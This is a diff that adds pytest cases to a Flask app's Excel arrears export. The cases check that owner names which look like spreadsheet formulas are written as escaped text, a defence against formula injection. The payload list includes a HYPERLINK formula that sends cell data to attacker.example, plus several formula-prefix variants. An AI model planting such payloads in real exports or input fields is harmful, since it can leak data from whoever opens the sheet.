@@ -10,6 +10,7 @@ import pytest
 from flask.testing import FlaskClient
 from openpyxl import load_workbook
 
+from app.extensions import db
 from app.models import Role
 from tests import factories
 from tests.fees.reports.test_services import World, build_world
@@ -189,6 +190,33 @@ def test_the_export_streams_a_workbook(world: World, login_as: Login) -> None:
     assert first[:4] == ("桃园小区", "1", "1", "101")
     assert (first[6], first[7]) == (3, "2026-01")
     assert (first[8], first[9], first[10]) == (350, 6, 356)
+
+
+INJECTIONS = [
+    '=HYPERLINK("http://attacker.example/?d="&A2,"点此核对")',
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("name", INJECTIONS)
+def test_the_export_writes_an_owner_name_that_looks_like_a_formula_as_text(
+    world: World, login_as: Login, name: str
+) -> None:
+    world.h1.owner_name = name
+    db.session.commit()
+    manager = login_as(user=world.manager)
+    response = manager.get(f"/fees/reports/arrears.xlsx?community_id={world.community.id}")
+    sheet = load_workbook(io.BytesIO(response.get_data())).active
+    cells = [row[4] for row in sheet.iter_rows(min_row=2)]
+    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
+    # XML reads a carriage return back as a line feed.
+    written = next(cell for cell in cells if name.replace("\r", "\n") in str(cell.value))
+    assert written.data_type == "s" and written.value == "'" + name.replace("\r", "\n")
 
 
 def test_the_reminder_slip(world: World, login_as: Login) -> None:
